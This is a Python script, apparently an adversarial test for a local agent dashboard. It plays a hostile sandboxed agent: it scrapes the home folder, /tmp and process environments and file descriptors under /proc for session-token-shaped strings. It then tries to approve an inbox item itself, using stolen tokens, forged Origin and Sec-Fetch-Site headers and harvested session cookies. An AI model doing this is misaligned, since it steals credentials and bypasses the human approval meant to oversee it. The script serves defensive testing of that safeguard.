"""A hostile agent inside the sandbox: hunt for the dashboard's session token, then try to
approve an inbox item through the dashboard on its real port.

argv: PORT ITEM HOME REPO
Scans files under HOME, REPO/.loop, /tmp and every /proc entry it can see for strings shaped
like the token (43 URL-safe characters), then POSTs approve with each candidate as the cookie and
as the URL token, with a forged same-origin Origin, Host and Sec-Fetch-Site, and once with none;
and opens each candidate as a link, as a browser would, to approve with any session it opens.
Writes hunt.json: what it saw, every status the server answered, the sessions it got.
"""

import json
import os
import re
import sys
import urllib.error
import urllib.request
from pathlib import Path

port, item, home, repo = sys.argv[1], sys.argv[2], Path(sys.argv[3]), Path(sys.argv[4])
SHAPE = re.compile(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")
candidates: set[str] = set()
files_read = 0


def scan_file(path: Path) -> None:
    global files_read
    try:
        with path.open("rb") as handle:
            data = handle.read(2_000_000)
    except OSError:
        return
    files_read += 1
    candidates.update(m.decode() for m in SHAPE.findall(data))


def scan_tree(root: Path, limit: int = 20_000) -> None:
    for folder, dirs, names in os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".git",)]
        for name in names:
            if files_read > limit:
                return
            scan_file(Path(folder) / name)


for root in (home, repo / ".loop", Path("/tmp")):
    scan_tree(root)
pids = [p for p in os.listdir("/proc") if p.isdigit()]
for pid in pids:
    for name in ("cmdline", "environ", "comm"):
        scan_file(Path("/proc") / pid / name)
    fds = Path("/proc") / pid / "fd"
    try:
        for fd in fds.iterdir():
            target = os.path.realpath(fd)
            if os.path.isfile(target):
                scan_file(Path(target))
    except OSError:
        pass

statuses: list[int] = []
sessions: list[str] = []
base = f"http://127.0.0.1:{port}"
cookie_name = f"loopctl_ui_{port}"


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: object, **kwargs: object) -> None:
        return None  # the 303 and its Set-Cookie are the answer


def open_link(token: str) -> str | None:
    """GET /?token=…: the session id a Set-Cookie hands out, if any."""
    opener = urllib.request.build_opener(NoRedirect)
    try:
        with opener.open(f"{base}/?token={token}", timeout=10) as answer:
            statuses.append(int(answer.status))
            headers = answer.headers
    except urllib.error.HTTPError as refused:
        statuses.append(int(refused.code))
        headers = refused.headers
    except OSError:
        statuses.append(-1)
        return None
    for value in headers.get_all("Set-Cookie") or []:
        name, _, rest = value.partition("=")
        if name.strip() == cookie_name:
            return rest.split(";")[0]
    return None


def post(token: str | None, via: str) -> int:
    query = f"?token={token}" if token and via == "query" else ""
    headers = {
        "Origin": base,
        "Sec-Fetch-Site": "same-origin",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    if token and via == "cookie":
        headers["Cookie"] = f"loopctl_ui_{port}={token}"
    request = urllib.request.Request(
        f"{base}/inbox/{item}/approve{query}", data=b"note=pwned", headers=headers, method="POST"
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as refused:
        return int(refused.code)
    except OSError:
        return -1


statuses.append(post(None, "none"))
for token in sorted(candidates)[:500]:
    statuses.append(post(token, "cookie"))
    statuses.append(post(token, "query"))
    session = open_link(token)
    if session:
        sessions.append(session)
        statuses.append(post(session, "cookie"))
# The report goes to a file in the worktree (the one place it may write): with every token-shaped
# string it found, it is longer than the captured tail of its output.
report = {
    "pids_visible": len(pids),
    "files_read": files_read,
    "candidates": sorted(candidates),
    "statuses": sorted(set(statuses)),
    "attempts": len(statuses),
    "sessions": len(sessions),
}
Path("hunt.json").write_text(json.dumps(report), encoding="utf-8")
print(f"{len(candidates)} candidates, {len(statuses)} attempts")
